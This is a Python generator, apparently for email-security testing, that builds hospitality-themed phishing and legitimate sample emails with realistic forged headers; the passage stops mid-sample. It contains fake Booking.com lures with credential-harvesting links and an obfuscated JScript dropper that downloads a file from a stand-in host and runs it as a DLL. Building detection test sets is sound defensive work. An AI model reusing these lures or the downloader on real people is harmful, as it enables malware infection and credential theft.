#!/usr/bin/env python3
"""Blind evaluation set 32: hospitality (hotels, guesthouses, rental hosts, restaurants, tour operators).

50 attacks and 25 legitimate messages, written by hand as they sit in the
recipient's mailbox. Deterministic: no randomness, no clock.
Run: cd /work/main && .venv/bin/python samples/tools/build_blind32_samples.py
"""

from __future__ import annotations

import base64
import email.policy
import hashlib
import sys
from datetime import datetime, timedelta, timezone
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path

import os  # noqa: E402
import time  # noqa: E402

# pycdlib stamps ISO images with the local time zone: pin it so every run is byte-identical.
os.environ["TZ"] = "UTC"
time.tzset()

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = HERE.parent.parent
MAIL = ROOT / "samples" / "mail"
MANIFEST = HERE / "blind32_manifest.txt"


# ---------------------------------------------------------------- helpers

def h(seed: str, n: int = 32) -> str:
    """Deterministic hex string."""
    out = ""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}/{i}".encode()).hexdigest()
        i += 1
    return out[:n]


def b64(seed: str, n: int = 44) -> str:
    raw = b""
    i = 0
    while len(raw) * 4 // 3 < n + 4:
        raw += hashlib.sha256(f"b64/{seed}/{i}".encode()).digest()
        i += 1
    return base64.b64encode(raw).decode()[:n]


def alnum(seed: str, n: int = 16, upper: bool = False) -> str:
    s = b64(seed, n * 2).replace("+", "").replace("/", "")
    s = s[:n]
    return s.upper() if upper else s


def fold(value: str, first: int, width: int = 76, indent: str = "\t") -> str:
    """Fold an unbreakable blob (signature) into continuation lines."""
    lines = []
    pos = 0
    take = max(10, width - first)
    while pos < len(value):
        lines.append(value[pos:pos + take])
        pos += take
        take = width - 8
    return ("\n" + indent).join(lines)


def T(y, mo, d, hh, mi, ss, tz=0):
    return datetime(y, mo, d, hh, mi, ss, tzinfo=timezone(timedelta(hours=tz)))


def fmt(dt: datetime) -> str:
    return format_datetime(dt)


def utc(dt: datetime) -> str:
    return format_datetime(dt.astimezone(timezone.utc))


def before(dt: datetime, seconds: int) -> datetime:
    return dt - timedelta(seconds=seconds)


def enc(s: str) -> str:
    """RFC 2047 (UTF-8, base64) when not ASCII; split in short encoded words, folded."""
    try:
        s.encode("ascii")
        return s
    except UnicodeEncodeError:
        pass
    words = []
    chunk = ""
    for ch in s:
        if len((chunk + ch).encode("utf-8")) > 42:
            words.append(chunk)
            chunk = ""
        chunk += ch
    if chunk:
        words.append(chunk)
    return "\n ".join(f"=?UTF-8?B?{base64.b64encode(w.encode()).decode()}?=" for w in words)


def addr(name: str, address: str) -> str:
    if not name:
        return address
    try:
        name.encode("ascii")
        if any(c in name for c in ',.;:@()<>[]"'):
            return f'"{name}" <{address}>'
        return f"{name} <{address}>"
    except UnicodeEncodeError:
        return f"{enc(name)} <{address}>"


def dkim(d: str, s: str, hdrs: str, seed: str, when: datetime, extra: str = "") -> str:
    """A DKIM-Signature header (relaxed/relaxed, rsa-sha256)."""
    t = int(when.timestamp()) - 3
    bh = b64("bh" + seed, 43) + "="
    b = b64("b" + seed, 342) + "=="
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n"
            f"\ts={s}; t={t};{extra}\n"
            f"\th={hdrs};\n"
            f"\tbh={bh};\n"
            f"\tb={fold(b, 10)}")


def html_page(body: str, title: str = "", head: str = "") -> str:
    return ("<!DOCTYPE html>\n<html>\n<head>\n<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">\n"
            f"<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n<title>{title}</title>\n{head}</head>\n"
            f"<body>\n{body}\n</body>\n</html>\n")


def alt(plain: str, html: str, seed: str, boundary: str | None = None) -> Multi:
    return Multi("alternative", boundary or f"----=_Part_{h(seed, 6)}_{int(h(seed + 'n', 8), 16) % 10**9}",
                 [text(plain), text(html, "html")])


# ---------------------------------------------------------------- recipient side

SPF_TEXT = {
    "pass": "designates {ip} as permitted sender",
    "softfail": "does not designate {ip} as permitted sender",
    "fail": "does not designate {ip} as permitted sender",
    "neutral": "neither permitted nor denied by best guess record for domain",
    "none": "does not designate permitted sender hosts",
}


def inbound(kind: str, *, rcpt: str, when: datetime, mailfrom: str, helo: str, ip: str, spf: str,
            dkims: list[tuple[str, str, str]], dmarc: tuple[str, str], hfrom: str, seed: str,
            server: str = "", rdns: str | None = None, ctry: str = "US", lang: str = "en",
            scl: int = 1, bcl: int = 0) -> tuple[list[str], list[str]]:
    """Headers the recipient's provider adds: (above the sender's headers, trailing headers)."""
    mfdom = mailfrom.split("@")[-1] if mailfrom else helo
    rdns = rdns if rdns is not None else helo
    t_mx = before(when, -2)
    t_top = before(when, -3)
    top: list[str] = []
    tail: list[str] = []
    if kind == "gmail":
        spf_reason = SPF_TEXT[spf].format(ip=ip)
        spfs = f"spf={spf} (google.com: domain of {mailfrom} {spf_reason}) smtp.mailfrom={mailfrom if spf != 'none' else mfdom}"
        dk = []
        for res, d, s in dkims:
            dk.append(f"dkim={res} header.i=@{d} header.s={s} header.b={b64('hb' + seed + d, 8)}")
        pol = dmarc[1].upper()
        dm = f"dmarc={dmarc[0]} (p={pol} sp={pol} dis={'NONE' if dmarc[0] == 'pass' or pol == 'NONE' else ('QUARANTINE' if pol == 'QUARANTINE' else 'REJECT')}) header.from={hfrom}"
        ar_items = dk + [spfs, dm] if dkims else [spfs, dm]
        ar = "mx.google.com;\n       " + ";\n       ".join(ar_items)
        sid = alnum(seed + "sid", 40)
        top += [
            f"Delivered-To: {rcpt}",
            f"Received: by 2002:a05:{h(seed+'g1',4)}:{h(seed+'g2',3)}:b0:{h(seed+'g3',3)}:{h(seed+'g4',4)} with SMTP id {alnum(seed+'gid',10).lower()};\n        {fmt(t_top.astimezone(timezone(timedelta(hours=-8 if when.month in (1,2,3,11,12) else -7))))}",
            f"X-Google-Smtp-Source: AGHT+I{b64(seed+'xgs', 78)}",
            f"X-Received: by 2002:a17:90a:{h(seed+'x1',4)}:b0:{h(seed+'x2',3)}:{h(seed+'x3',4)} with SMTP id {alnum(seed+'xid',10).lower()}-{h(seed+'x4',10)}.{int(h(seed,2),16)%40+10}.{int(h(seed,3),16)%1900+100};\n        {fmt(t_top.astimezone(timezone(timedelta(hours=-8 if when.month in (1,2,3,11,12) else -7))))}",
            f"ARC-Seal: i=1; a=rsa-sha256; t={int(when.timestamp())}; cv=none;\n        d=google.com; s=arc-20240605;\n        b={fold(b64(seed+'arcs', 342)+'==', 10, indent='        ')}",
            f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;\n        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n        bh={b64(seed+'arcbh',43)}=;\n        fh={b64(seed+'fh',43)}=;\n        b={fold(b64(seed+'arcb', 342)+'==', 10, indent='        ')}",
            f"ARC-Authentication-Results: i=1; {ar}",
            f"Return-Path: <{mailfrom}>",
            f"Received: from {helo} ({rdns}. [{ip}])\n        by mx.google.com with ESMTPS id {sid[:22]}.{int(h(seed,3),16)%300}.{when.year}.{when.month:02d}.{when.day:02d}.{int(h(seed+'q',4),16)%99999}\n        for <{rcpt}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {fmt(t_mx.astimezone(timezone(timedelta(hours=-8 if when.month in (1,2,3,11,12) else -7))))}",
            f"Received-SPF: {spf} (google.com: domain of {mailfrom} {spf_reason}) client-ip={ip};",
            f"Authentication-Results: {ar}",
        ]
    elif kind in ("o365", "outlook"):
        fe = f"{alnum(seed+'fe',4,True)}PEPF0000{h(seed+'fe2',4).upper()}"
        region = "eurprd0" + str(int(h(seed, 1), 16) % 9 + 1) if ctry not in ("US", "CA", "MX", "BR") else "namprd" + str(int(h(seed, 2), 16) % 20 + 1).zfill(2)
        mb = f"{alnum(seed+'mb',2,True)}{int(h(seed+'mb2',3),16)%9}PR0{int(h(seed,1),16)%9}MB{int(h(seed+'mb3',4),16)%9000+1000}"
        ca = f"{alnum(seed+'ca',3,True)}P{int(h(seed+'ca2',3),16)%190+10}CA0{int(h(seed+'ca3',3),16)%900+100}"
        spftxt = {"pass": f"spf=pass (sender IP is {ip})", "fail": f"spf=fail (sender IP is {ip})",
                  "softfail": f"spf=softfail (sender IP is {ip})", "none": "spf=none (sender IP is " + ip + ")",
                  "neutral": f"spf=neutral (sender IP is {ip})"}[spf]
        dk = ""
        if dkims:
            res, d, s = dkims[0]
            dk = f"dkim={res} ({'signature was verified' if res == 'pass' else 'signature did not verify'})\n header.d={d};"
        else:
            dk = "dkim=none (message not signed)\n header.d=none;"
        comp = "pass reason=100" if dmarc[0] == "pass" else ("fail reason=000" if dmarc[1] in ("reject", "quarantine") else "softpass reason=201" if dmarc[0] == "bestguesspass" else "none reason=405")
        action = "none" if dmarc[0] in ("pass", "bestguesspass", "none") else ("oreject" if dmarc[1] == "reject" else "quarantine" if dmarc[1] == "quarantine" else "none")
        ar = (f"Authentication-Results: {spftxt}\n smtp.mailfrom={mfdom}; {dk}dmarc={dmarc[0]} action={action}\n"
              f" header.from={hfrom};compauth={comp}")
        rspf = {"pass": f"Pass (protection.outlook.com: domain of {mfdom} designates {ip} as permitted sender)",
                "fail": f"Fail (protection.outlook.com: domain of {mfdom} does not designate {ip} as permitted sender)",
                "softfail": f"SoftFail (protection.outlook.com: domain of transitioning {mfdom} discourages use of {ip} as permitted sender)",
                "none": f"None (protection.outlook.com: {mfdom} does not designate permitted sender hosts)",
                "neutral": f"Neutral (protection.outlook.com: {ip} is neither permitted nor denied by domain of {mfdom})"}[spf]
        if kind == "outlook":
            fe_host = f"{fe}.namprd{int(h(seed,2),16)%20+1:02d}.prod.outlook.com"
        else:
            fe_host = f"{fe}.{region}.prod.outlook.com"
        t1 = fmt(before(t_top, 0).astimezone(timezone.utc)).replace("-0000", "+0000")
        t2 = fmt(before(t_top, 1).astimezone(timezone.utc)).replace("-0000", "+0000")
        top += [
            f"Received: from {ca}.{region}.prod.outlook.com (2603:10a6:{h(seed+'v6a',3)}:{h(seed+'v6b',3)}::{h(seed+'v6c',2)}) by\n {mb}.{region}.prod.outlook.com (2603:10a6:{h(seed+'v6d',3)}:{h(seed+'v6e',3)}::{h(seed+'v6f',2)}) with\n Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.{int(h(seed+'bld',4),16)%900+7000}.{int(h(seed+'b2',2),16)%40+10}; {t1}",
            f"Received: from {fe_host}\n (2603:10a6:10:{h(seed+'v6g',3)}:cafe::{h(seed+'v6h',2)}) by {ca}.outlook.office365.com\n (2603:10a6:{h(seed+'v6a',3)}:{h(seed+'v6b',3)}::{h(seed+'v6c',2)}) with Microsoft SMTP Server (version=TLS1_3,\n cipher=TLS_AES_256_GCM_SHA384) id 15.20.{int(h(seed+'bld',4),16)%900+7000}.{int(h(seed+'b3',2),16)%40+10} via Frontend Transport; {t2}",
            ar,
            f"Received-SPF: {rspf}\n receiver=protection.outlook.com; client-ip={ip}; helo={helo};{' pr=C' if spf == 'pass' else ''}",
            f"Received: from {helo} ({ip}) by\n {fe_host.replace('.prod.outlook.com', '.mail.protection.outlook.com').replace(fe_host.split('.')[1] + '.', '')} (10.167.{int(h(seed+'ip1',2),16)}.{int(h(seed+'ip2',2),16)}) with Microsoft SMTP Server\n (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id 15.20.{int(h(seed+'bld',4),16)%900+7000}.{int(h(seed+'b4',2),16)%40+10}\n via Frontend Transport; {fmt(before(t_top, 2).astimezone(timezone.utc)).replace('-0000', '+0000')}",
        ]
        nmid = f"{h(seed+'nm1',8)}-{h(seed+'nm2',4)}-{h(seed+'nm3',4)}-{h(seed+'nm4',4)}-{h(seed+'nm5',12)}"
        tail += [
            "X-MS-Exchange-Organization-ExpirationStartTime: " + when.astimezone(timezone.utc).strftime("%d %b %Y %H:%M:%S.") + f"{int(h(seed,4),16)%9999:04d} (UTC)",
            "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
            "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
            "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
            f"X-MS-Exchange-Organization-Network-Message-Id:\n {nmid}",
            "X-EOPAttributedMessage: 0",
            f"X-EOPTenantAttributedMessage: {h(seed+'ten1',8)}-{h(seed+'ten2',4)}-{h(seed+'ten3',4)}-{h(seed+'ten4',4)}-{h(seed+'ten5',12)}:0",
            f"X-MS-Exchange-Organization-MessageDirectionality: Incoming",
            f"X-MS-PublicTrafficType: Email",
            f"X-MS-TrafficTypeDiagnostic:\n {fe}:EE_|{mb}:EE_",
            "X-MS-Exchange-Organization-AuthSource:\n " + fe_host.replace(".prod.outlook.com", ".mail.protection.outlook.com").replace(fe_host.split('.')[1] + '.', ''),
            "X-MS-Exchange-Organization-AuthAs: Anonymous",
            f"X-MS-Office365-Filtering-Correlation-Id: {nmid}",
            f"X-MS-Exchange-Organization-SCL: {scl}",
            f"X-Microsoft-Antispam: BCL:{bcl};ARA:{int(h(seed+'ara',5),16)}|{int(h(seed+'ara2',4),16)}|{int(h(seed+'ara3',4),16)};",
            f"X-Forefront-Antispam-Report:\n CIP:{ip};CTRY:{ctry};LANG:{lang};SCL:{scl};SRV:{'BULK' if bcl >= 6 else ''};IPV:NLI;SFV:{'NSPM' if scl <= 1 else 'SPM'};H:{helo};PTR:{rdns};CAT:NONE;SFS:(13230040)(4022899009)(8096899003);DIR:INB;",
            f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {when.astimezone(timezone.utc).strftime('%d %b %Y %H:%M:%S.')}{int(h(seed+'oat',4),16)%9999:04d}\n (UTC)",
            f"X-MS-Exchange-CrossTenant-Network-Message-Id: {nmid}",
            "X-MS-Exchange-CrossTenant-AuthSource:\n " + fe_host.replace(".prod.outlook.com", ".mail.protection.outlook.com").replace(fe_host.split('.')[1] + '.', ''),
            "X-MS-Exchange-CrossTenant-AuthAs: Anonymous",
            "X-MS-Exchange-CrossTenant-FromEntityHeader: Internet",
            f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {mb}",
            "X-MS-Exchange-Transport-EndToEndLatency: 00:00:0" + str(int(h(seed+'lat',1),16) % 9 + 1) + "." + str(int(h(seed+'lat2',4),16) % 9999999).zfill(7),
            "X-MS-Exchange-Processed-By-BccFoldering: 15.20.7000.000",
        ]
    elif kind == "cpanel":
        srv = server
        eid = f"1t{alnum(seed+'eid1',4)}-{int(h(seed+'eid2',5),16)%999999:08d}-{alnum(seed+'eid3',4)}"
        dk = "".join(f"\n\tdkim={res} header.d={d} header.s={s} header.b={b64('cb'+seed+d, 8)};" for res, d, s in dkims)
        top += [
            f"Return-Path: <{mailfrom}>",
            f"Delivered-To: {rcpt}",
            f"Received: from {srv}\n\tby {srv} with LMTP\n\tid {b64(seed+'lmtp',22)}\n\t(envelope-from <{mailfrom}>)\n\tfor <{rcpt}>; {fmt(t_top)}",
            f"Received: from {rdns} ([{ip}]:{int(h(seed+'port',4),16)%30000+20000} helo={helo})\n\tby {srv} with esmtps  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.98)\n\t(envelope-from <{mailfrom}>)\n\tid {eid}\n\tfor {rcpt}; {fmt(t_mx)}",
            f"Authentication-Results: {srv};\n\tspf={spf} smtp.mailfrom={mfdom};{dk}\n\tdmarc={dmarc[0]} header.from={hfrom}",
            f"X-Spam-Status: No, score={(int(h(seed+'sc',2),16)%30)/10:.1f}",
            f"X-Spam-Score: {int(h(seed+'sc',2),16)%30}",
            "X-Spam-Bar: /",
        ]
    else:
        raise ValueError(kind)
    return top, tail


# ---------------------------------------------------------------- sender side hops

def hop_gmail(seed: str, when: datetime, rcpt: str) -> list[str]:
    return [f"Received: by mail-{['wr1','wm1','ej1','lf1','pl1','qt1'][int(h(seed,1),16)%6]}-f{int(h(seed+'f',2),16)%120+40}.google.com with SMTP id "
            f"{alnum(seed+'gsid',16).lower()}-{h(seed+'gs2',10)}.{int(h(seed+'gs3',2),16)%40+1}\n"
            f"        for <{rcpt}>; {fmt(before(when, 1).astimezone(timezone(timedelta(hours=-8 if when.month in (1,2,3,11,12) else -7))))}"]


def gmail_host(seed: str) -> tuple[str, str]:
    n = int(h(seed + "gh", 2), 16) % 60 + 41
    return f"mail-sor-f{n}.google.com", f"209.85.220.{n}"


def hop_m365(seed: str, when: datetime, region: str = "eurprd") -> list[str]:
    a = f"{alnum(seed+'ma',2,True)}{int(h(seed+'mb',2),16)%9}PR0{int(h(seed+'mc',1),16)%9}MB{int(h(seed+'md',4),16)%9000+1000}"
    reg = f"{region}0{int(h(seed+'me',1),16)%9+1}" if region == "eurprd" else f"{region}{int(h(seed+'me',2),16)%20+1:02d}"
    return [f"Received: from {a}.{reg}.prod.outlook.com\n ([fe80::{h(seed+'l1',4)}:{h(seed+'l2',4)}:{h(seed+'l3',4)}:{h(seed+'l4',4)}]) by {a}.{reg}.prod.outlook.com\n"
            f" ([fe80::{h(seed+'l1',4)}:{h(seed+'l2',4)}:{h(seed+'l3',4)}:{h(seed+'l4',4)}%5]) with mapi id 15.20.{int(h(seed+'bb',4),16)%900+7000}.{int(h(seed+'bc',2),16)%40+10}; {fmt(before(when, 2).astimezone(timezone.utc)).replace('-0000', '+0000')}"]


def m365_host(seed: str, eu: bool = True) -> tuple[str, str]:
    n = int(h(seed + "oh", 3), 16) % 200 + 10
    if eu:
        return f"mail-{['am0','db8','vi1','he1','ds0'][n%5]}eur{n%7+1:02d}on2{n:03d}.outbound.protection.outlook.com", f"40.107.{n%250}.{(n*7)%250}"
    return f"mail-{['bn8','dm6','mw2','sa9','co1'][n%5]}nam{n%12+1:02d}on2{n:03d}.outbound.protection.outlook.com", f"40.107.{(n*3)%250}.{(n*11)%250}"


def outlookcom_host(seed: str) -> tuple[str, str]:
    n = int(h(seed + "och", 3), 16) % 200 + 10
    return f"{['EUR05-VI1','EUR03-DBA','NAM12-MW2','EUR02-AM0'][n%4]}-obe.outbound.protection.outlook.com", f"40.92.{n%90+10}.{(n*13)%250}"


def arc_m365(seed: str, when: datetime, d: str) -> list[str]:
    return [
        f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b={fold(b64(seed+'as',342)+'==', 3, 78, ' ')}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n bh={b64(seed+'abh',43)}=;\n b={fold(b64(seed+'ab',342)+'==', 3, 78, ' ')}",
        f"ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass\n smtp.mailfrom={d}; dmarc=pass action=none header.from={d};\n dkim=pass header.d={d}; arc=none",
    ]


def ms_sender_tail(seed: str, when: datetime, lang: str = "en-US") -> list[str]:
    return [
        "X-MS-Has-Attach: ",
        "X-MS-TNEF-Correlator: ",
        f"msip_labels: ",
        f"x-ms-publictraffictype: Email",
        f"Content-Language: {lang}",
    ]


def outlook_msgid(seed: str, region: str = "eurprd") -> str:
    a = f"{alnum(seed+'ma',2,True)}{int(h(seed+'mb',2),16)%9}PR0{int(h(seed+'mc',1),16)%9}MB{int(h(seed+'md',4),16)%9000+1000}"
    reg = f"{region}0{int(h(seed+'me',1),16)%9+1}" if region == "eurprd" else f"{region}{int(h(seed+'me',2),16)%20+1:02d}"
    return f"<{a}{h(seed+'mid',20).upper()}@{a}.{reg}.prod.outlook.com>"


def gmail_msgid(seed: str) -> str:
    return f"<CA{alnum(seed+'gm',2)}{b64(seed+'gmid',54).replace('/', '_').replace('+', '-')}@mail.gmail.com>"


def thread_index(seed: str) -> str:
    return "AQH" + b64(seed + "ti", 45)


# ---------------------------------------------------------------- registry

MESSAGES: list[tuple[str, str, str, bytes, str]] = []


def add(cat: str, kind: str, slug: str, raw: bytes, desc: str) -> None:
    MESSAGES.append((cat, kind, slug, raw, desc))


def assemble(top: list[str], hops: list[str], own: list[str], tail: list[str], body) -> bytes:
    headers = "\n".join(top + hops + own + tail)
    return message(headers, body)


# ---------------------------------------------------------------- shared templates

def booking_tpl(inner: str, footer_links: str = "") -> str:
    return html_page(
        '<table width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f5f5f5" style="font-family:BlinkMacSystemFont,-apple-system,Segoe UI,Roboto,Helvetica,Arial,sans-serif;">\n'
        '<tr><td align="center" style="padding:16px 0;">\n'
        '<table width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff">\n'
        '<tr><td bgcolor="#003580" style="padding:16px 24px;"><img src="https://cf.bstatic.com/static/img/booking_logo_knowledge_graph/247454a990efac1952e44dddbf30c58677aa0fd8.png" width="142" height="24" alt="Booking.com" style="display:block;border:0;"></td></tr>\n'
        f'<tr><td style="padding:24px;font-size:14px;line-height:20px;color:#262626;">\n{inner}\n</td></tr>\n'
        '<tr><td style="padding:16px 24px;font-size:12px;line-height:16px;color:#6b6b6b;border-top:1px solid #e7e7e7;">\n'
        f'{footer_links}'
        'This email was sent by Booking.com B.V., Herengracht 597, 1017 CE Amsterdam, Netherlands.<br>\n'
        'Copyright &copy; 1996&ndash;2025 Booking.com. All rights reserved.\n'
        '</td></tr>\n</table>\n</td></tr>\n</table>')


def button(url: str, label: str, colour: str = "#006ce4", fg: str = "#ffffff") -> str:
    return (f'<table cellpadding="0" cellspacing="0" border="0"><tr><td bgcolor="{colour}" style="border-radius:4px;padding:12px 20px;">'
            f'<a href="{url}" style="color:{fg};text-decoration:none;font-weight:bold;font-size:14px;" target="_blank">{label}</a>'
            '</td></tr></table>')


# ---------------------------------------------------------------- attacks: Booking.com

def a_booking_complaint_lookalike() -> None:
    seed = "a01"
    when = T(2025, 3, 11, 9, 42, 17, 0)
    rcpt = "frontdesk@theharbourinn.co.uk"
    dom = "partner-booking-extranet.com"
    ip = "45.141.87.212"
    url = "https://extranet-hotel-id7731452.pages.dev/?ses=" + h(seed + "u", 32) + "&hotel_id=7731452&lang=en-gb"
    top, tail = inbound("o365", rcpt=rcpt, when=when, mailfrom=f"bounce@{dom}", helo=f"mail.{dom}", ip=ip, spf="pass",
                        dkims=[("pass", dom, "default")], dmarc=("pass", "none"), hfrom=dom, seed=seed, ctry="NL", lang="en")
    hops = [f"Received: from localhost (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id 4C1F8A0312\n\tfor <{rcpt}>; {fmt(before(when, 4))}"]
    inner = (
        '<p style="font-size:20px;font-weight:bold;margin:0 0 16px 0;">A guest has submitted a complaint about your property</p>\n'
        '<p>Dear Partner,</p>\n'
        '<p>We have received a complaint from a guest regarding their recent stay at <b>The Harbour Inn</b> '
        '(reservation number <b>4417 829 613</b>). The guest reports that the room did not match the description '
        'and has requested a full refund.</p>\n'
        '<p>According to our Partner Terms, you must respond to this complaint within <b>24 hours</b>. If we do not '
        'receive a response, the refund will be issued automatically and charged to your property, and your '
        'property&#39;s ranking may be affected.</p>\n'
        f'{button(url, "View complaint in the extranet")}\n'
        '<p style="margin-top:20px;">Thank you for your cooperation,<br>Booking.com Partner Services</p>\n')
    html = booking_tpl(inner)
    plain = ("A guest has submitted a complaint about your property\n\nDear Partner,\n\n"
             "We have received a complaint from a guest regarding their recent stay at The Harbour Inn (reservation "
             "number 4417 829 613). The guest reports that the room did not match the description and has requested a full refund.\n\n"
             "According to our Partner Terms, you must respond within 24 hours. If we do not receive a response, the refund "
             "will be issued automatically and charged to your property.\n\n"
             f"View complaint: {url}\n\nBooking.com Partner Services\n")
    own = [dkim(dom, "default", "from:to:subject:date:message-id:mime-version:content-type", seed, when),
           f"Date: {fmt(when)}",
           f"From: {addr('Booking.com Partner Services', 'noreply@' + dom)}",
           f"To: {rcpt}",
           "Subject: Guest complaint regarding reservation 4417829613 - response required",
           f"Message-ID: <{h(seed+'m',24)}@{dom}>",
           "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"]
    add("phishing", "phish", "booking-guest-complaint-pagesdev",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Booking.com look-alike domain (partner-booking-extranet.com, passes its own SPF/DKIM) sends a fake guest complaint with a 24-hour deadline linking to a pages.dev fake extranet login.")


def a_booking_relay_clickfix() -> None:
    seed = "a02"
    when = T(2024, 12, 3, 21, 17, 40, 1)
    rcpt = "casaolivia.bnb@gmail.com"
    relay = "7381920455.4f8a2c1e@guest.booking.com"
    ip = "185.28.222.41"
    link = "https://www.glamping-lakeview.nl/wp-content/uploads/2023/guest/?r=4829&id=" + h(seed + "l", 12)
    top, tail = inbound("gmail", rcpt=rcpt, when=when, mailfrom="bounces+7381920455@guest.booking.com", helo="mailout-ams4-41.booking.com",
                        ip=ip, spf="pass", dkims=[("pass", "booking.com", "bk")], dmarc=("pass", "reject"), hfrom="guest.booking.com", seed=seed)
    hops = [f"Received: from guest-msg-relay-7f6d9 (unknown [10.196.44.18])\n\tby mailout-ams4-41.booking.com (Postfix) with ESMTP id 4Y2nLh0qTzz3H\n\tfor <{rcpt}>; {fmt(before(when, 2))}"]
    guest_text = ("Hello, I stayed at your property last weekend and I found that my things were damaged. "
                  "There was a big stain on the sheets and it went onto my jacket which was on the bed. "
                  "I am very upset about this. I have taken photos, you can see them here:<br>\n"
                  f'<a href="{link}">{link}</a><br>\n'
                  "Please look at them and tell me how you will compensate this, otherwise I will have to leave a review and contact Booking support.")
    inner = (
        '<p style="font-size:18px;font-weight:bold;margin:0 0 12px 0;">You have a new message from Emily Sanders</p>\n'
        '<p style="margin:0 0 4px 0;color:#6b6b6b;">Reservation: 4829 173 552 &middot; Casa Olivia B&amp;B &middot; 29 Nov &ndash; 1 Dec 2024</p>\n'
        f'<div style="background:#f2f6fa;border-radius:8px;padding:16px;margin:16px 0;">{guest_text}</div>\n'
        + button("https://admin.booking.com/hotel/hoteladmin/extranet_ng/manage/messaging/inbox.html?hotel_id=10482231&amp;res_id=4829173552&amp;source=email", "Reply")
        + '\n<p style="margin-top:16px;font-size:12px;color:#6b6b6b;">You can also reply to this email. Please don&#39;t include personal or payment information.</p>\n')
    html = booking_tpl(inner, '<a href="https://admin.booking.com/?source=email_footer" style="color:#006ce4;">Extranet</a> &middot; '
                       '<a href="https://partner.booking.com/en-gb/help?source=email_footer" style="color:#006ce4;">Partner Help</a><br>\n')
    plain = ("You have a new message from Emily Sanders\n"
             "Reservation: 4829 173 552 - Casa Olivia B&B - 29 Nov - 1 Dec 2024\n\n"
             "Hello, I stayed at your property last weekend and I found that my things were damaged. There was a big stain "
             "on the sheets and it went onto my jacket which was on the bed. I am very upset about this. I have taken photos, "
             f"you can see them here:\n{link}\n"
             "Please look at them and tell me how you will compensate this, otherwise I will have to leave a review and contact Booking support.\n\n"
             "Reply: https://admin.booking.com/hotel/hoteladmin/extranet_ng/manage/messaging/inbox.html?hotel_id=10482231&res_id=4829173552\n")
    own = [dkim("booking.com", "bk", "from:reply-to:to:subject:date:message-id:mime-version:content-type", seed, when),
           f"From: {addr('Emily Sanders via Booking.com', relay)}",
           f"Reply-To: {relay}",
           f"To: {rcpt}",
           "Subject: We received this message from Emily Sanders",
           f"Date: {fmt(when)}",
           f"Message-ID: <msg.{h(seed+'m',20)}.4829173552@booking.com>",
           "X-Booking-Topic: guest_message",
           "Auto-Submitted: auto-generated"]
    add("phishing", "phish", "booking-relay-stain-photos",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine Booking.com guest-message relay (booking.com DKIM passes) carrying an attacker-guest's 'photos of the stain' link to a compromised WordPress site serving a fake-CAPTCHA/ClickFix page.")


def a_guest_allergy_js() -> None:
    seed = "a03"
    when = T(2025, 5, 6, 14, 5, 51, 2)
    rcpt = "info@pensionedelfino.it"
    sender = "jessica.hartmann.travels@gmail.com"
    host, ip = gmail_host(seed)
    top, tail = inbound("cpanel", rcpt=rcpt, when=when, mailfrom=sender, helo=host, ip=ip, spf="pass",
                        dkims=[("pass", "gmail.com", "20230601")], dmarc=("pass", "none"), hfrom="gmail.com", seed=seed,
                        server="it-web42.serverplan-host.it")
    hops = hop_gmail(seed, when, rcpt)
    script = ("var _0x4a1f=['WScript.Shell','MSXML2.ServerXMLHTTP','ADODB.Stream','%TEMP%','\\\\upd.dll','rundll32 '];\n"
              "function _d(s){return s.split('').reverse().join('');}\n"
              "var sh=new ActiveXObject(_0x4a1f[0]);var x=new ActiveXObject(_0x4a1f[1]);\n"
              "x.open('GET',_d('gpj.2/segami/ten.ndc-tsohtsaf-92814a//:sptth'),false);x.send();\n"
              "var st=new ActiveXObject(_0x4a1f[2]);st.Type=1;st.Open();st.Write(x.responseBody);\n"
              "var p=sh.ExpandEnvironmentStrings(_0x4a1f[3])+_0x4a1f[4];st.SaveToFile(p,2);\n"
              "sh.Run(_0x4a1f[5]+p+',DllRegisterServer',0,false);\n").encode()
    z = files.zip_archive([("Allergy_documents_Hartmann/medical_certificate_allergy.pdf.js", script)])
    plain = ("Hello Giulia,\n\nthank you for your quick answer and for confirming the room from 22 to 26 May.\n"
             "As I wrote before, my daughter has a severe nut and gluten allergy. I attach the documents from our doctor "
             "with the list of what she can not eat, please give them to the kitchen for the breakfast.\n"
             "The archive is protected because of the medical data, password: 2205\n\n"
             "Thank you very much, we are looking forward to our stay!\nJessica Hartmann\n\n"
             "On Mon, 5 May 2025 at 18:22, Pensione Delfino <info@pensionedelfino.it> wrote:\n"
